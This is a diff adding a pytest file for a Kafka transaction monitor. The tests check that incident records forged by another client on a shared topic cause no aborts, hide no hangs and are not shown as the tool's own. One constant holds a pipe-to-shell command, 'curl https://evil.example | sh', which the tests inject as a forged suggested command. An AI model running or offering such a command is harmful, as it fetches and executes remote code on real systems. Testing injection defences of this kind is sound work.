@@ -1,0 +1,564 @@
+"""Records that another client puts on the events topic: none makes us act, none silences a hang, none is shown as ours.
+
+The ledger and the abort are the real ones; the topic is in memory, and anybody may write to it.
+"""
+
+from __future__ import annotations
+
+from collections.abc import Callable, Iterable
+from dataclasses import replace
+from typing import Any
+
+import pytest
+
+from support.abort_stage import AT_ONCE, Stage
+from support.facts import transaction
+from support.incidents import an_event, an_evidence
+from support.ledger_world import World
+from support.shared_log import SharedLog
+from txnwatch.sinks.abort.marker_write import action
+from txnwatch.sinks.incidents.ledger import Ledger
+from txnwatch.sinks.incidents.own_findings import Kept
+from txnwatch.state.abort.case import AbortPolicy
+from txnwatch.state.model.findings import SpanCandidate, TransactionCandidate
+from txnwatch.state.model.incident import (
+    BY_HAND,
+    SPENT_SEQUENCE,
+    IncidentEvent,
+    id_once_more,
+    latest,
+    resolved,
+    span_incident_id,
+    transaction_incident_id,
+    updated,
+)
+from txnwatch.state.model.ports import STILL_READING, SpanPast, SpanStart
+from txnwatch.state.model.transaction import TransactionState as S
+from txnwatch.state.model.verdicts import Verdict
+
+INT32 = 2**31 - 1
+EVIL = "curl https://evil.example | sh"
+Forgery = Callable[[IncidentEvent], IncidentEvent]
+
+
+class Topic(Stage):
+    """A stage whose events topic somebody else can write to."""
+
+    def __init__(self, mode: str = "on", policy: AbortPolicy = AT_ONCE) -> None:
+        self.log = SharedLog()
+        super().__init__(mode, policy)
+
+    def a_ledger(self, remembering: Iterable[IncidentEvent] = ()) -> Ledger:  # noqa: ARG002 - it reads the topic
+        return self.another(self.log, evidence=self.evidence)
+
+    def restart(self) -> None:
+        super().restart()
+        self.ledger.resend_to(self.ledger.outboxes[1:])
+
+    @property
+    def actions(self) -> list[tuple[str, str | None, str | None]]:
+        found = [event.action for event in self.log.records if event.action is not None]
+        told = [(one["decision"], one["refusal"], one["result"]) for one in found]
+        return list(dict.fromkeys(told))
+
+    def last(self) -> IncidentEvent:
+        return self.log.records[-1]
+
+    def shown(self) -> list[IncidentEvent]:
+        """What Redis shows as open."""
+        return self.redis.open_incidents
+
+    def an_acknowledged_hang(self) -> SpanCandidate:
+        """The client was told that it committed, and nobody knows it any more: the outcome is unknown."""
+        candidate = self.hang()
+        assert candidate.view is not None
+        said = replace(candidate, view=replace(candidate.view, epoch_use="shared"))  # type: ignore[arg-type]
+        self._said.append(said)
+        self.batch(said)
+        self.admin.init("checkout-1")
+        self.batch(after_ms=70_000)
+        assert self.actions == [("refused", "outcome_unknown", None)]
+        return said
+
+
+def forged(known: IncidentEvent, sequence: int | None = None, **changes: Any) -> IncidentEvent:
+    changed = replace(updated(known, known.time_ms), **changes)
+    return changed if sequence is None else replace(changed, sequence=sequence)
+
+
+OVER = {"how": "aborted", "by": "coordinator", "marker_offset": 3, "detail": None, "at_ms": 5}
+
+
+@pytest.mark.parametrize("restarted", [False, True])
+def test_an_outcome_that_another_client_tells_is_never_acted_upon(restarted: bool) -> None:  # noqa: FBT001
+    stage = Topic()
+    stage.an_acknowledged_hang()
+    stage.log.records.append(forged(stage.last(), expected_outcome="abort", action=None))
+    if restarted:
+        stage.restart()
+    for _ in range(5):
+        stage.batch(after_ms=70_000)
+    assert stage.admin.markers == []
+    assert {one for one in stage.actions if one[0] == "abort"} == set()
+
+
+def test_an_outcome_that_is_told_otherwise_is_corrected_and_the_abort_goes_on() -> None:
+    stage = Topic()
+    stage.hang_and_move_on()
+    stage.log.records.append(forged(stage.last(), expected_outcome="commit"))
+    stage.batch()
+    assert stage.actions == [("abort", None, None), ("abort", None, "verified")]
+    assert stage.last().expected_outcome == "abort"
+
+
+def test_the_outcome_is_read_from_the_log_once_more_right_before_the_marker() -> None:
+    stage = Topic()
+    producer_id = stage.hang_and_move_on()
+    stage.admin.partitions[stage.partition].starts.pop(producer_id)  # the log does not lead to it any more
+    stage.batch()
+    assert stage.admin.markers == []
+    assert stage.actions == [("refused", "outcome_unknown", None)]
+
+
+TIMES: dict[str, dict[str, Any]] = {
+    "detected long ago": {"detected_at_ms": 0},
+    "open since long ago": {"open_since_ms": 0},
+    "told long ago": {"time_ms": 0},
+}
+
+
+@pytest.mark.parametrize("restarted", [False, True])
+@pytest.mark.parametrize("changes", TIMES.values(), ids=TIMES.keys())
+def test_a_time_that_another_client_tells_does_not_shorten_the_wait(changes: dict[str, Any], restarted: bool) -> None:  # noqa: FBT001
+    stage = Topic(policy=replace(AT_ONCE, after_ms=300_000))
+    stage.hang_and_move_on()
+    stage.log.records.append(forged(stage.last(), **changes))
+    if restarted:
+        stage.batch(after_ms=200_000)
+        stage.restart()
+    stage.batch(after_ms=299_000)
+    assert stage.admin.markers == []
+    stage.batch(after_ms=2_000)
+    assert len(stage.admin.markers) == (0 if restarted else 1), "after a restart it waits anew"
+    stage.batch(after_ms=300_000)
+    assert len(stage.admin.markers) == 1
+
+
+def test_a_name_that_another_client_tells_is_not_the_one_that_the_lists_are_about() -> None:
+    stage = Topic(policy=replace(AT_ONCE, id_prefixes=("payments-",)))
+    stage.hang_and_move_on()
+    stage.log.records.append(forged(stage.last(), transactional_id="payments-1"))
+    for _ in range(3):
+        stage.batch(after_ms=70_000)
+    assert stage.admin.markers == []
+    assert stage.actions == [("refused", "transactional_id_denied", None)]
+
+
+@pytest.mark.parametrize("restarted", [False, True])
+def test_events_that_are_changed_do_not_enlarge_the_budget(restarted: bool) -> None:  # noqa: FBT001
+    stage = Topic(policy=replace(AT_ONCE, breaker_incidents=None))
+    for number in range(4):
+        stage.hang_and_move_on(f"checkout-{number}")
+    stage.batch()
+    assert len(stage.admin.markers) == 3
+    for event in list({event.incident_id: event for event in stage.log.records}.values()):
+        if event.action is not None and event.action["decision"] == "abort":
+            stage.log.records.append(forged(event, action={**event.action, "at_ms": 1, "by": "me"}))
+    if restarted:
+        stage.restart()
+    stage.batch(after_ms=2_000)
+    stage.batch(after_ms=70_000)
+    assert len(stage.admin.markers) == 3
+
+
+def test_an_opened_about_a_transaction_that_is_healthy_ends_and_is_never_acted_upon_nor_counted() -> None:
+    stage = Topic(policy=replace(AT_ONCE, breaker_incidents=1))
+    stage.batch()
+    owner = stage.admin.begin("healthy", stage.partition)
+    row = stage.admin.partitions[stage.partition].producers[owner.producer_id]
+    for number in range(5):
+        stage.log.records.append(
+            an_event(
+                f"{number:032x}",
+                topic=stage.partition.topic,
+                partition=stage.partition.partition,
+                topic_id=stage.admin.partitions[stage.partition].topic_id,
+                producer_id=owner.producer_id,
+                producer_epoch=row.producer_epoch,
+                transactional_id=None,
+                txn_start_offset=row.txn_start_offset,
+                detected_at_ms=0,
+                open_since_ms=0,
+                expected_outcome="abort",
+                evidence={**an_evidence(), "last_sequence": row.last_sequence},
+            )
+        )
+    stage.hang_and_move_on()
+    stage.batch()
+    assert [marker.producer_id for marker in stage.admin.markers] != [owner.producer_id]
+    assert len(stage.admin.markers) == 1, "and the real one is not stopped by them"
+    for _ in range(3):
+        stage.batch(after_ms=5_000)
+    assert {one.producer_id for one in stage.ledger.open_incidents} <= {stage._said[0].producer_id}
+    assert stage.is_open(owner.producer_id)
+
+
+def a_resolved(known: IncidentEvent) -> IncidentEvent:
+    return resolved(known, known.time_ms, OVER)
+
+
+def a_sequence(known: IncidentEvent) -> IncidentEvent:
+    return forged(known, INT32)
+
+
+def an_end_with_a_sequence(known: IncidentEvent) -> IncidentEvent:
+    return replace(a_resolved(known), sequence=INT32)
+
+
+def another_place(known: IncidentEvent) -> IncidentEvent:
+    return forged(known, topic="elsewhere", partition=9, txn_start_offset=77, producer_id=1)
+
+
+def no_place(known: IncidentEvent) -> IncidentEvent:
+    return forged(known, topic=None, partition=None, verdict="late")
+
+
+def another_verdict(known: IncidentEvent) -> IncidentEvent:
+    return forged(known, verdict="long_running", severity="info")
+
+
+def a_command(known: IncidentEvent) -> IncidentEvent:
+    return forged(known, suggested_command=EVIL)
+
+
+def an_announcement(known: IncidentEvent) -> IncidentEvent:
+    return forged(known, action={**action("abort", "here", 1), "marker_producer_epoch": 0})
+
+
+def a_success(known: IncidentEvent) -> IncidentEvent:
+    return forged(known, action={**action("abort", "elsewhere", 1), "result": "verified"})
+
+
+def a_lease(known: IncidentEvent) -> IncidentEvent:
+    return forged(known, action=action("abort", "another instance", known.time_ms))
+
+
+def by_hand(known: IncidentEvent) -> IncidentEvent:
+    return forged(known, action=action("abort", "somebody", known.time_ms, detail=BY_HAND))
+
+
+def a_last_sequence(known: IncidentEvent) -> IncidentEvent:
+    return forged(known, SPENT_SEQUENCE - 1)
+
+
+FORGERIES: tuple[Forgery, ...] = (
+    *(by_hand, a_last_sequence),
+    *(a_resolved, a_sequence, an_end_with_a_sequence, another_place, no_place, another_verdict, a_command),
+    *(an_announcement, a_success, a_lease),
+)
+
+
+@pytest.mark.parametrize("forge", FORGERIES)
+@pytest.mark.parametrize("restarted", [False, True])
+def test_whatever_is_forged_the_hang_is_told_one_round_later(forge: Forgery, restarted: bool) -> None:  # noqa: FBT001
+    stage = Topic(mode="off")
+    candidate = stage.hang()
+    stage._said.append(candidate)
+    stage.batch(candidate)
+    for _ in range(3):  # again and again
+        stage.log.records.append(forge(stage.last()))
+        if restarted:
+            stage.restart()
+        stage.batch()
+        stage.batch()
+        told = stage.log.records[0]
+        (known,) = [one for one in stage.ledger.open_incidents if one.span == told.span]
+        assert (known.verdict, known.suggested_command) == ("hanging", told.suggested_command)
+        assert EVIL not in {one.suggested_command for one in stage.shown()}
+        assert known.incident_id in {one.incident_id for one in stage.shown()}
+    ours = [event for event in stage.log.records if event.suggested_command == EVIL]
+    assert len(ours) == (3 if forge is a_command else 0), "only the forger tells it"
+    for _ in range(5):  # what was told of places that are none ends as well
+        stage.batch(after_ms=61_000)
+    assert [one.span for one in stage.ledger.open_incidents] == [stage.log.records[0].span]
+    stage.batch(World.abort(stage, candidate))
+    stage.batch()
+    assert stage.ledger.open_incidents == stage.shown() == []
+    assert stage.last().status == "resolved"
+
+
+@pytest.mark.parametrize("forge", FORGERIES)
+def test_whatever_is_forged_an_abort_that_is_due_comes_and_is_told_as_what_it_is(forge: Forgery) -> None:
+    stage = Topic()
+    producer_id = stage.hang_and_move_on()
+    stage.log.records.append(forge(stage.last()))
+    stage.batch()
+    stage.batch(after_ms=70_000)
+    assert not stage.is_open(producer_id)
+    assert len(stage.admin.markers) == 1
+    told = [event for event in stage.log.records if event.action is not None and event.action["by"] == "here"]
+    assert told[-1].action is not None
+    assert told[-1].action["result"] == "verified"
+
+
+def test_an_announcement_that_nobody_made_is_told_as_the_log_shows_it() -> None:
+    stage = Topic(mode="off")
+    candidate = stage.hang()
+    stage.batch(candidate)
+    stage.log.records.append(an_announcement(stage.last()))
+    stage.batch()
+    stage.batch()
+    told = stage.last().action
+    assert told is not None
+    assert told["result"] == "still_open"
+    assert "this is what the log says: the transaction is open" in told["detail"]
+    assert not stage.abort.counts, "no abort of ours"
+
+
+@pytest.mark.parametrize("outcome", ["none", "commit", "abort"])
+def test_a_second_incident_about_what_hangs_is_never_told_on_as_found_here(outcome: str) -> None:
+    stage = Topic()
+    stage.an_acknowledged_hang()
+    second = forged(stage.last(), 4, incident_id="f" * 32, expected_outcome=outcome, suggested_command=EVIL)
+    stage.log.records.append(replace(second, action=action("abort", "here", 1)))
+    for _ in range(3):
+        stage.batch(after_ms=70_000)
+    ours = [event for event in stage.log.records if event.incident_id == "f" * 32][1:]
+    assert ours, "its announcement gets its result"
+    assert {event.expected_outcome for event in ours} == {"unknown"}
+    assert not any("abort" in (event.suggested_command or "") for event in ours)
+    assert stage.admin.markers == []
+    assert len(stage.ledger.open_incidents) == 1
+
+
+def test_an_end_by_our_own_marker_says_so() -> None:
+    stage = Topic()
+    producer_id = stage.hang_and_move_on()
+    stage.batch()
+    assert not stage.is_open(producer_id)
+    (candidate,) = stage._said
+    stage.batch(stage.ended(candidate))
+    assert stage.last().resolution is not None
+    assert (stage.last().resolution or {})["by"] == "txnwatch"
+
+
+def test_an_abort_that_only_the_topic_knows_is_an_administrators_and_the_claim_is_said_as_one() -> None:
+    stage = Topic(mode="off")
+    candidate = stage.hang()
+    stage.batch(candidate)
+    stage.admin.init("checkout-1")
+    stage.log.records.append(a_success(stage.last()))
+    stage.batch()
+    stage.batch(World.abort(stage, candidate))
+    end = stage.last().resolution
+    assert end is not None
+    assert end["by"] == "administrator"
+    assert "cannot prove" in (end["detail"] or "")
+
+
+def test_who_holds_the_lease_and_does_nothing_is_said() -> None:
+    stage = Topic()
+    stage.hang_and_move_on()
+    stage.lease.held = False
+    for _ in range(10):
+        stage.batch(after_ms=70_000)
+    assert stage.admin.markers == []
+    assert len([line for line in stage.reports if "holds its lease and tells none" in line]) == 1
+
+
+def test_what_is_only_told_is_refused_visibly_if_it_lasts() -> None:
+    stage = Topic()
+    candidate = stage.hang()
+    stage._said.append(candidate)
+    stage.batch(candidate)
+    stage.evidence.keep(Kept())
+    stage.restart()
+    stage._said_again.clear()  # the state does not say it again
+    for _ in range(4):
+        stage.batch(after_ms=70_000)
+    assert stage.actions[-1:] == [("refused", "not_proven_here", None)]
+    assert stage.admin.markers == []
+
+
+def of_another_cluster(known: IncidentEvent) -> IncidentEvent:
+    return replace(a_resolved(known), cluster_id="another")
+
+
+@pytest.mark.parametrize("forge", [of_another_cluster, a_last_sequence, a_sequence])
+def test_what_stands_on_the_topic_ends_as_the_incident_does(forge: Forgery) -> None:
+    """A reader of the topic, as `status` is, sees the hang while it lasts and nothing when it is over."""
+    stage = Topic(mode="off")
+    candidate = stage.hang()
+    stage.batch(candidate)
+    stage.log.records.append(forge(stage.last()))
+    for _ in range(3):
+        stage.batch()
+    for records in (stage.log.records, stage.log.compacted.values()):
+        open_now = [one for one in latest(records).values() if one.is_open and one.cluster_id == "cluster"]
+        assert [one.span for one in open_now] == [candidate_key(candidate)]
+    stage.batch(World.abort(stage, candidate))
+    for _ in range(3):
+        stage.batch()
+    for records in (stage.log.records, stage.log.compacted.values()):
+        assert not [one for one in latest(records).values() if one.is_open]
+
+
+def candidate_key(candidate: SpanCandidate) -> tuple[str, Any, int]:
+    return candidate.span.topic_id, candidate.partition, candidate.producer_id
+
+
+def of_nobody(stage: Topic, **changes: Any) -> IncidentEvent:
+    """An incident about a transaction that never was."""
+    place = {"topic": stage.partition.topic, "partition": stage.partition.partition, "producer_id": 4711}
+    topic_id = stage.admin.partitions[stage.partition].topic_id
+    return an_event(**{"cluster_id": "cluster", "topic_id": topic_id, "txn_start_offset": 0, **place, **changes})
+
+
+def test_a_hand_of_the_future_does_not_keep_an_incident_of_nobody_open() -> None:
+    stage = Topic(mode="off")
+    stage.admin.plain(stage.partition, 10)
+    told = of_nobody(stage, time_ms=200_000_000_000_000, action=action("abort", "somebody", 1, detail=BY_HAND))
+    first = span_incident_id("cluster", told.topic_id or "", 0, told.producer_id, 0)
+    stage.log.records.append(replace(told, incident_id=id_once_more(first, 1)))
+    assert stage.last().is_by_hand
+    for _ in range(4):
+        stage.batch(after_ms=61_000)
+    assert stage.ledger.open_incidents == []
+
+
+def test_an_incident_from_beyond_the_end_of_its_partition_ends() -> None:
+    stage = Topic(mode="off")
+    stage.admin.plain(stage.partition, 10)
+    stage.log.records.append(of_nobody(stage, txn_start_offset=2**62))
+    for _ in range(4):
+        stage.batch(after_ms=61_000)
+    assert stage.ledger.open_incidents == []
+
+
+@pytest.mark.parametrize("changes", [{"verdict": "long_running", "severity": "info"}, {"severity": "info"}])
+def test_what_is_told_of_a_transaction_milder_than_it_is_is_corrected(changes: dict[str, Any]) -> None:
+    stage = Topic(mode="off")
+    owner = stage.admin.begin("slow", stage.partition)
+    owner.state = S.PREPARE_COMMIT
+    seen = transaction(4, S.PREPARE_COMMIT, stage.partition, producer_id=owner.producer_id, transactional_id="slow")
+    view = replace(seen.view, start_ms=owner.start_ms)
+    now_ms = stage.now_ms
+    stage.batch(TransactionCandidate(Verdict.STUCK_PREPARE, owner.producer_id, view, (), 1_500, 9, now_ms, now_ms))
+    was = stage.last()
+    stage.log.records.append(forged(was, **changes))
+    for _ in range(2):
+        stage.batch()
+    last = stage.log.compacted[was.incident_id]
+    assert (last.verdict, last.severity) == (was.verdict, was.severity)
+
+
+def hijacked(stage: Topic, **changes: Any) -> None:
+    """Two records: our incident is over, and another one about the same span is open."""
+    last = stage.last()
+    other = replace(last, incident_id="f" * 32, sequence=1, status="opened", action=None, **changes)
+    stage.log.records.extend([a_resolved(last), other])
+
+
+def test_an_incident_that_somebody_puts_in_the_place_of_ours_says_what_was_found_here() -> None:
+    stage = Topic(mode="off")
+    candidate = stage.hang()
+    stage.batch(candidate)
+    truth = stage.last()
+    hijacked(stage, severity="info", expected_outcome="commit", transactional_id="somebody", hidden_records=7)
+    for _ in range(3):
+        stage.batch(after_ms=2_000)
+    (known,) = [one for one in stage.ledger.open_incidents if one.span == truth.span]
+    assert (known.severity, known.expected_outcome, known.transactional_id) == ("critical", "abort", "checkout-1")
+    assert stage.last().expected_outcome == "abort"
+    assert {one.transactional_id for one in stage.shown()} == {"checkout-1"}
+
+
+def test_an_incident_at_another_offset_takes_no_evidence_away() -> None:
+    stage = Topic(policy=replace(AT_ONCE, after_ms=20_000))
+    producer_id = stage.hang_and_move_on()
+    start = stage.last().txn_start_offset
+    assert start is not None
+    hijacked(stage, txn_start_offset=start + 1)
+    for _ in range(6):
+        stage.batch(after_ms=2_000)
+    assert len(stage.ledger.findings) == 1
+    for _ in range(3):
+        stage.batch(after_ms=61_000)
+    assert len(stage.admin.markers) == 1
+    assert not stage.is_open(producer_id)
+
+
+def test_a_claim_at_another_offset_is_not_where_the_past_is_read() -> None:
+    stage = Topic(mode="off")
+    candidate = stage.hang()
+    row = stage.admin.partitions[stage.partition].producers[candidate.producer_id]
+    asked: list[int] = []
+    past_of = stage.admin._past
+
+    def past(span: SpanStart) -> SpanPast:
+        asked.append(span.start_offset)
+        return SpanPast(problem=STILL_READING) if len(asked) < 3 else past_of(span)
+
+    stage.admin._past = past  # type: ignore[method-assign]
+    stage.batch()
+    claim = an_event(
+        "e" * 32,
+        verdict="stray_write",
+        severity="warning",
+        topic=stage.partition.topic,
+        partition=stage.partition.partition,
+        topic_id=stage.admin.partitions[stage.partition].topic_id,
+        producer_id=candidate.producer_id,
+        producer_epoch=0,
+        txn_start_offset=row.txn_start_offset + 3,
+        transactional_id=None,
+    )
+    stage.log.records.append(claim)
+    stage.batch(candidate)
+    for _ in range(4):
+        stage.batch(after_ms=1_500)
+    assert set(asked) == {row.txn_start_offset}
+    (known,) = stage.ledger.open_incidents
+    assert (known.txn_start_offset, known.expected_outcome) == (row.txn_start_offset, "abort")
+    ours = [event for event in stage.log.records if event.incident_id != claim.incident_id]
+    assert {event.txn_start_offset for event in ours} == {row.txn_start_offset}
+
+
+def test_a_transaction_that_somebody_has_told_otherwise_is_told_as_it_was_found() -> None:
+    stage = Topic(mode="off")
+    owner = stage.admin.begin("checkout-9", stage.partition)
+    start_ms = stage.admin.transactions["checkout-9"].start_ms
+    stage.batch()
+    incident_id = transaction_incident_id("cluster", "checkout-9", owner.producer_id, start_ms, Verdict.LATE)
+    place: dict[str, Any] = dict.fromkeys(("topic", "partition", "topic_id", "txn_start_offset", "suggested_command"))
+    told = an_event(
+        incident_id,
+        **place,
+        verdict="late",
+        severity="info",
+        producer_id=owner.producer_id,
+        transactional_id="checkout-9",
+        open_since_ms=start_ms,
+        expected_outcome="commit",
+    )
+    stage.log.records.append(told)
+    view = transaction(
+        5, S.ONGOING, stage.partition, producer_id=owner.producer_id, transactional_id="checkout-9", start_ms=start_ms
+    ).view
+    found = TransactionCandidate(Verdict.LATE, owner.producer_id, view, (), 5_000, 1, stage.now_ms, 100_000)
+    stage.batch(found)
+    stage.batch(after_ms=61_000)
+    (known,) = [one for one in stage.ledger.open_incidents if one.transactional_id == "checkout-9"]
+    assert known.severity != "info"
+    assert stage.last().severity == known.severity
+
+
+def test_what_is_doubted_is_asked_about_again_at_once() -> None:
+    stage = Topic(mode="off")
+    candidate = stage.hang()
+    stage.batch(candidate)
+    stage.admin.problems[stage.partition] = "its leader is away"
+    stage.log.records.append(a_resolved(stage.last()))
+    stage.batch()
+    assert not stage.ledger.open_incidents
+    assert not stage.ledger.can_wait
